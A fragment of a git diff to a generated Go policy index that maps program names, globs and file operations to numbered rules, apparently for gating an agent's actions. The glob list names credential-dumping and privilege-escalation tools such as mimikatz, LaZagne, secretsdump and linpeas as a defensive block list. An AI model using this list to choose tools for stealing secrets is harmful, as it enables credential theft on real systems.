 				Name:    "zfs",
 				Program: 65,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "zgrep",
@@ -19999,7 +20015,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zip",
 				Program: 24,
-				Rules:   []uint16{53, 300},
+				Rules:   []uint16{54, 301},
 			},
 			nameEntry{
 				Name:    "zipinfo",
@@ -20012,12 +20028,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zitadel",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "zkCli.sh",
 				Program: -1,
-				Rules:   []uint16{116},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "zless",
@@ -20026,22 +20042,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zmap",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "zpool",
 				Program: 65,
-				Rules:   []uint16{257, 283},
+				Rules:   []uint16{258, 284},
 			},
 			nameEntry{
 				Name:    "zrok",
 				Program: -1,
-				Rules:   []uint16{367},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "zsh",
 				Program: 4,
-				Rules:   []uint16{391, 392, 447, 448},
+				Rules:   []uint16{392, 393, 448, 449},
 			},
 			nameEntry{
 				Name:    "zstd",
@@ -20050,18 +20066,18 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zypper",
 				Program: 45,
-				Rules:   []uint16{444, 468},
+				Rules:   []uint16{445, 469},
 			},
 		},
 		Globs: []nameEntry{nameEntry{
 			Name:    "LaZagne*",
 			Program: -1,
-			Rules:   []uint16{55},
+			Rules:   []uint16{56},
 		},
 			nameEntry{
 				Name:    "LinEnum*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "docker-credential-*",
@@ -20071,7 +20087,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "drizzle-kit@*",
 				Program: -1,
-				Rules:   []uint16{122, 123},
+				Rules:   []uint16{123, 124},
 			},
 			nameEntry{
 				Name:    "fsck.*",
@@ -20080,7 +20096,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "git-credential-*",
 				Program: -1,
-				Rules:   []uint16{38},
+				Rules:   []uint16{39},
 			},
 			nameEntry{
 				Name:    "juju-*",
@@ -20089,92 +20105,92 @@ var shipped = Set{
 			nameEntry{
 				Name:    "k3s-uninstall*",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "kafka-acls*",
 				Program: -1,
-				Rules:   []uint16{135},
+				Rules:   []uint16{136},
 			},
 			nameEntry{
 				Name:    "kafka-configs*",
 				Program: -1,
-				Rules:   []uint16{136},
+				Rules:   []uint16{137},
 			},
 			nameEntry{
 				Name:    "kafka-consumer-groups*",
 				Program: -1,
-				Rules:   []uint16{134, 135, 136, 137},
+				Rules:   []uint16{135, 136, 137, 138},
 			},
 			nameEntry{
 				Name:    "kafka-delete-records*",
 				Program: -1,
-				Rules:   []uint16{135},
+				Rules:   []uint16{136},
 			},
 			nameEntry{
 				Name:    "kafka-storage*",
 				Program: -1,
-				Rules:   []uint16{135},
+				Rules:   []uint16{136},
 			},
 			nameEntry{
 				Name:    "kafka-topics*",
 				Program: -1,
-				Rules:   []uint16{134, 135},
+				Rules:   []uint16{135, 136},
 			},
 			nameEntry{
 				Name:    "kubectl-*",
 				Program: -1,
-				Rules:   []uint16{219},
+				Rules:   []uint16{220},
 			},
 			nameEntry{
 				Name:    "lazagne*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "linpeas*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "mimikatz*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "mimipenguin*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "mkfs.*",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "nanodump*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "onionshare*",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "prisma@*",
 				Program: -1,
-				Rules:   []uint16{120, 121, 122},
+				Rules:   []uint16{121, 122, 123},
 			},
 			nameEntry{
 				Name:    "procdump*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "pspy*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "psql-*",
@@ -20191,12 +20207,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "secretsdump*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "winpeas*",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "xfs_*",
@@ -20205,41 +20221,41 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zkCli*",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "zookeeper-shell*",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 		},
 		File: []opEntry{opEntry{
 			Op:    "read",
-			Rules: []uint16{8, 9, 10, 11, 12, 13, 14, 15, 16, 19, 65, 147, 358},
+			Rules: []uint16{8, 9, 10, 11, 12, 13, 14, 15, 16, 19, 66, 148, 359},
 		},
 			opEntry{
 				Op:    "write",
-				Rules: []uint16{274, 276, 282, 295, 296, 297, 308, 359, 398, 399, 400, 401, 455, 456, 463, 470, 472},
+				Rules: []uint16{275, 277, 283, 296, 297, 298, 309, 360, 399, 400, 401, 402, 456, 457, 464, 471, 473},
 			},
 			opEntry{
 				Op:    "append",
-				Rules: []uint16{274, 276, 282, 295, 296, 297, 308, 359, 398, 399, 400, 401, 455, 456, 463, 470, 472},
+				Rules: []uint16{275, 277, 283, 296, 297, 298, 309, 360, 399, 400, 401, 402, 456, 457, 464, 471, 473},
 			},
 			opEntry{
 				Op:    "truncate",
-				Rules: []uint16{119, 258, 259, 261, 263, 266, 273, 274, 275, 276, 281, 282, 287, 308, 400, 455, 456, 470, 472, 486},
+				Rules: []uint16{120, 259, 260, 262, 264, 267, 274, 275, 276, 277, 282, 283, 288, 309, 401, 456, 457, 471, 473, 487},
 			},
 			opEntry{
 				Op:    "delete",
-				Rules: []uint16{119, 258, 259, 260, 261, 262, 263, 264, 265, 266, 267, 268, 269, 270, 271, 272, 273, 274, 275, 276, 281, 282, 308, 400, 456, 470, 472, 486},
+				Rules: []uint16{120, 259, 260, 261, 262, 263, 264, 265, 266, 267, 268, 269, 270, 271, 272, 273, 274, 275, 276, 277, 282, 283, 309, 401, 457, 471, 473, 487},
 			},
 			opEntry{
 				Op:    "move",
-				Rules: []uint16{17, 54, 260, 261, 262, 263, 273, 274, 275, 276, 281, 308, 398, 399, 400, 401, 456, 470, 472, 486},
+				Rules: []uint16{17, 55, 261, 262, 263, 264, 274, 275, 276, 277, 282, 309, 399, 400, 401, 402, 457, 471, 473, 487},
 			},
 			opEntry{
 				Op:    "copy",
-				Rules: []uint16{17, 54},
+				Rules: []uint16{17, 55},
 			},
 			opEntry{
 				Op:    "load",
@@ -20247,26 +20263,26 @@ var shipped = Set{
 			},
 			opEntry{
 				Op:    "send",
-				Rules: []uint16{351, 353, 354, 379},
+				Rules: []uint16{352, 354, 355, 380},
 			},
 			opEntry{
 				Op:    "chmod",
-				Rules: []uint16{290, 293, 472, 485},
+				Rules: []uint16{291, 294, 473, 486},
 			},
 			opEntry{
 				Op: "list",
 			},
 			opEntry{
 				Op:    "run",
-				Rules: []uint16{388},
+				Rules: []uint16{389},
 			},
 		},
-		HTTP:    []uint16{36, 45, 46, 47, 48, 50, 66, 67, 68, 69, 70, 71, 72, 73, 74, 77, 78, 79, 80, 85, 86, 87, 88, 91, 92, 93, 94, 210, 211, 212, 213, 214, 215, 217, 355, 356, 364, 384, 385},
-		GraphQL: []uint16{49, 81, 82, 83, 84, 216},
-		SQL:     []uint16{95, 96, 97, 98, 99, 100, 101, 102, 103, 104, 105, 106, 111, 112},
+		HTTP:    []uint16{36, 46, 47, 48, 49, 51, 67, 68, 69, 70, 71, 72, 73, 74, 75, 78, 79, 80, 81, 86, 87, 88, 89, 92, 93, 94, 95, 211, 212, 213, 214, 215, 216, 218, 356, 357, 365, 385, 386},
+		GraphQL: []uint16{50, 82, 83, 84, 85, 217},
+		SQL:     []uint16{96, 97, 98, 99, 100, 101, 102, 103, 104, 105, 106, 107, 112, 113},
 		Search:  []uint16{0, 1, 2, 3, 4, 5},
 		Env:     []uint16{21, 23},
-		Form:    []uint16{440, 441, 442, 443},
+		Form:    []uint16{441, 442, 443, 444},
 		Paths: []pathIndex{pathIndex{
 			Named: []namedGlob{namedGlob{
 				Name: ".aider.conf.yml",
